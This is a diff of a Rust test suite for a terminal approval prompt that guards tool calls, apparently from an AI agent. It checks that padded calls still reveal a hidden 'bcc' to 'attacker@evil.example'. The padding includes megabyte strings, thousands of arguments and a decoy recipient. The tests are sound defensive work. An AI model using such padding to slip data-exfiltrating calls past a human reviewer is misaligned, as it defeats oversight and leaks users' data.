@@ -7,13 +7,18 @@ use serde_json::json;
 /// A signed-in host before a broker in a terminal.
 fn signed_in() -> (House, Terminal, Host) {
     let house = House::open();
+    let (terminal, host) = signed_in_at(&house);
+    (house, terminal, host)
+}
+
+fn signed_in_at(house: &House) -> (Terminal, Host) {
     house.home.policy("permit(principal, action == Action::\"connect_unattended\", resource);\n");
     house.know_server("notes");
     let terminal = house.terminal();
     let mut host = house.host_with(&["notes"]);
     host.initialize();
     host.sign_in();
-    (house, terminal, host)
+    (terminal, host)
 }
 
 /// A question longer than this would scroll its own beginning away.
@@ -22,45 +27,49 @@ const MOST_LINES: usize = 200;
 // Case 191.
 #[test]
 fn padding_does_not_push_the_receiver_out_of_sight() {
-    let (house, mut terminal, mut host) = signed_in();
-    // A tool that leaves open which arguments there are: none of them is odd by itself.
-    let tool = json!({ "name": "post", "description": "Posts", "inputSchema": { "type": "object" } });
-    house.servers.set_faults(Faults { extra_tools: vec![tool], ..Faults::default() });
-    eventually("the new tool\u{2019}s question", || (!host.has_tool("post")).then_some(()));
-    let question = terminal.question();
-    assert!(shows(&question, "post"), "{question}");
-    terminal.answer("yes");
-    eventually("its admission", || host.has_tool("post").then_some(()));
-    let links: Vec<_> = (0..60).map(|number| format!("\"link{number}\":\"https://a{number}.example/\"")).collect();
-    let links = links.join(",");
     let many = |count: usize| (0..count).map(|number| format!("\"x{number}\":1")).collect::<Vec<_>>().join(",");
-    for (what, padding) in [
+    let links = (0..60).map(|number| format!("\"link{number}\":\"https://a{number}.example/\"")).collect::<Vec<_>>();
+    let paddings = [
         ("two megabytes", format!("\"text\":\"{}\"", "x".repeat(2 << 20))),
         ("ten thousand line ends", format!("\"text\":\"{}\"", "\\n".repeat(10_000))),
         ("three hundred thousand spaces", format!("\"text\":\"{}\"", " ".repeat(300_000))),
         ("a deep nest", format!("\"text\":{}{}", "[".repeat(60), "]".repeat(60))),
         ("sixty arguments", many(60)),
         ("five thousand arguments", many(5_000)),
-        ("sixty that are worth a look themselves", links),
-    ] {
-        let arguments = format!("{{{padding},\"to\":\"attacker@evil.example\"}}");
-        let id = what.replace(' ', "-");
-        let line = format!(
-            r#"{{"jsonrpc":"2.0","id":"{id}","method":"tools/call","params":{{"name":"post","arguments":{arguments}}}}}"#
-        );
-        host.raw_line(line.as_bytes());
-        let question = terminal.question();
-        for part in ["post", "attacker@evil.example"] {
-            assert!(shows(&question, part), "{what}: {part} in:\n{question}");
+        ("sixty that are worth a look themselves", links.join(",")),
+        ("two hundred arguments behind a decoy", format!("\"recipient\":\"friend@good.example\",{}", many(200))),
+    ];
+    // Each in a house of its own: a second question would also tell what differs from the first.
+    std::thread::scope(|scope| {
+        for (what, padding) in &paddings {
+            scope.spawn(move || is_shown_behind(what, padding));
         }
-        let lines = question.lines().count();
-        assert!(lines <= MOST_LINES, "{what}: {lines} lines");
-        assert!(question.len() < 100_000, "{what}: {} bytes", question.len());
-        // Two in a row: three denials would stop the asking.
-        terminal.answer("yes");
-        host.wait(&json!(id));
+    });
+}
+
+/// Who receives the call is shown, however much stands before it.
+fn is_shown_behind(what: &str, padding: &str) {
+    // A tool that leaves open which arguments there are: none of them is odd by itself.
+    let tool = json!({ "name": "post", "description": "Posts", "inputSchema": { "type": "object" } });
+    let house = House::with(|options| options.faults.extra_tools = vec![tool]);
+    let (mut terminal, mut host) = signed_in_at(&house);
+    let arguments = format!("{{{padding},\"bcc\":\"attacker@evil.example\"}}");
+    host.raw_line(
+        format!(
+            r#"{{"jsonrpc":"2.0","id":"padded","method":"tools/call","params":{{"name":"post","arguments":{arguments}}}}}"#
+        )
+        .as_bytes(),
+    );
+    let question = terminal.question();
+    let rows = question.split("Just this call").next().unwrap_or_default();
+    for part in ["post", "attacker@evil.example"] {
+        assert!(shows(rows, part), "{what}: {part} in:\n{question}");
     }
-    drop(house);
+    let lines = question.lines().count();
+    assert!(lines <= MOST_LINES, "{what}: {lines} lines");
+    assert!(question.len() < 100_000, "{what}: {} bytes", question.len());
+    terminal.answer("no");
+    assert!(is_refused(&host.wait(&json!("padded"))));
 }
 
 // Case 192.
